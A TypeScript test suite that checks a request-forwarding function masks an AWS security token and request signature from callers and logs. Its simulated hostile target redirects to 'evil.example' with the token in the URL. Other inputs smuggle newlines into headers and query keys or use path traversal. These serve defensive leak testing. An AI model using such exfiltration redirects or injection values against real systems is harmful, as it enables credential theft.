import assert from 'node:assert/strict'
import { after, mock, test } from 'node:test'
import { inspect } from 'node:util'
import { invokeRow } from '../../../functions/invoke/invoke-row.ts'
import { httpFunction } from '../../../shared/http/index.ts'
import { context, proxyEvent } from '../../shared/http/events.ts'
import { invoking, planted, target } from './invoking.ts'
import { ok, partsOf, type RecordingTarget, type Reply, recordingTarget } from './recording-target.ts'

const started: RecordingTarget[] = []
after(() => Promise.all(started.map((one) => one.stop())))

/** What was asked, back in the ways in which servers echo a request. */
const echoes: Readonly<Record<string, (request: string) => string | Buffer>> = {
  'as it came': (request) => ok(request),
  'as JSON, slashes escaped': (request) =>
    ok(
      JSON.stringify({ request, headers: Object.fromEntries(partsOf(request).headers) }).replaceAll('/', '\\/'),
      'Content-Type: application/json',
    ),
  'percent-encoded': (request) => ok(encodeURIComponent(request)),
  'as HTML': (request) =>
    ok(
      request.replace(/[^A-Za-z0-9]/g, (one) => `&#${one.charCodeAt(0)};`),
      'Content-Type: text/html',
    ),
  'as Unicode escapes': (request) =>
    ok(
      `"${request.replace(/[^A-Za-z0-9]/g, (one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`)}"`,
      'Content-Type: application/json',
    ),
  'among bytes that are no text': (request) => ok(Buffer.concat([Buffer.from([255, 0]), Buffer.from(request)])),
  'in headers, a redirect among them': (request) => {
    const token = partsOf(request).headers.get('x-amz-security-token')
    const authorization = partsOf(request).headers.get('authorization')
    return `HTTP/1.1 302 ${token}\r\nLocation: https://evil.example/?t=${token}\r\nX-Echo: ${authorization} ${token}\r\nX-Amz-Security-Token: ${token}\r\nSet-Cookie: t=${token}\r\nETag: "${token}"\r\nContent-Length: 0\r\n\r\n`
  },
  'in the words of AWS on a wrong signature': (request) => {
    const { headers } = partsOf(request)
    return ok(
      JSON.stringify({
        message: `The request signature we calculated does not match the signature you provided.\n\nThe Canonical String for this request should have been\n'GET\n/status\n\nx-amz-security-token:${headers.get('x-amz-security-token')}'`,
      }),
      'Content-Type: application/json',
    )
  },
  'in an answer that is no HTTP': (request) => `${partsOf(request).headers.get('x-amz-security-token')}\r\n\r\n`,
  'in an answer that breaks off': (request) => `HTTP/1.1 200 OK\r\nContent-Length: 9999\r\n\r\n${request}`,
  'in an answer that is too large': (request) => `HTTP/1.1 200 OK\r\nContent-Length: 99999999\r\n\r\n${request}`,
}

/** All that anybody but the target could see: the answer, and every line that was printed. */
const seen = async (
  reply: Reply,
  body: string,
  headers: Record<string, string> = {},
): Promise<{ text: string; signature: string }> => {
  const graph = await recordingTarget(reply)
  started.push(graph)
  const printed: string[] = []
  const streams = (['log', 'error', 'warn', 'info'] as const).map((name) =>
    mock.method(console, name, (...line: unknown[]) => printed.push(inspect(line))),
  )
  const { call } = invoking({ graph: target(graph.url) })
  const handler = httpFunction(
    (input, about) => call(input, { ...about, remainingMilliseconds: () => 1_200 }),
    invokeRow,
  )
  const answer = await handler(
    proxyEvent({ body, headers: { 'content-type': 'application/json', ...headers } }),
    context(),
  )
  for (const { mock } of streams) mock.restore()
  const { body: text } = answer as { body: string }
  const decoded = [...text.matchAll(/"body":"([A-Za-z0-9+/=]{16,})"/g)].map(([, one = '']) =>
    Buffer.from(one, 'base64').toString('latin1'),
  )
  const [, signature = ''] = /Signature=([0-9a-f]{64})/.exec(graph.requests[0] ?? '') ?? []
  return { text: [JSON.stringify(answer), ...printed, ...decoded].join('\n'), signature }
}

for (const [how, reply] of Object.entries(echoes)) {
  test(`a target that echoes ${how} shows the caller and the log no secret of the service`, async () => {
    for (const [body, headers] of [
      ['{"target":"graph","path":"/status"}', undefined],
      ['{"data":[[0,"graph",{"path":"/status"}]]}', { 'sf-external-function-format': 'json' }],
      [
        '{"data":[[0,"graph",{"path":"/status"}]]}',
        { 'sf-external-function-format': 'json', 'sf-custom-on-error': 'fail' },
      ],
    ] as const) {
      const { text, signature } = await seen(reply, body, headers)
      assert.equal(signature.length, 64)
      assert.ok(!text.includes(planted), text)
      assert.ok(!text.includes(signature), text)
    }
  })
}

test('what is masked leaves the rest of the answer as it was', async () => {
  const { text } = await seen(
    (request) => ok(`before ${partsOf(request).headers.get('x-amz-security-token')} after ë`),
    '{"target":"graph","path":"/status"}',
  )
  assert.match(text, /before \*\*\* after ë/)
})

test('a secret that the caller put into a request that is refused comes back in no message and no line', async () => {
  for (const request of [
    { target: 'graph', path: '/status', headers: { Authorization: `Bearer ${planted}` } },
    { target: 'graph', path: '/status', headers: { [`X ${planted}`]: 'x' } },
    { target: 'graph', path: '/status', headers: { 'X-Note': `${planted}\n` } },
    { target: 'graph', path: `/${planted}` },
    { target: 'graph', path: `/..%2f${planted}` },
    { target: 'graph', path: '/status', query: { 'X-Amz-Security-Token': planted } },
    { target: 'graph', path: '/status', query: { [`a\n${planted}`]: planted } },
    { target: 'graph', path: '/status', body: planted, isBase64Encoded: true },
    { target: 'graph', path: '/status', method: planted },
    { target: planted, path: '/status' },
    { target: 'graph', path: '/status', [planted]: planted },
  ]) {
    const { text } = await seen(() => ok('let in'), JSON.stringify(request))
    assert.ok(!text.includes(planted), text)
    assert.match(text, /INPUT_INVALID|TARGET_UNKNOWN|TARGET_REQUEST_REFUSED/)
  }
})
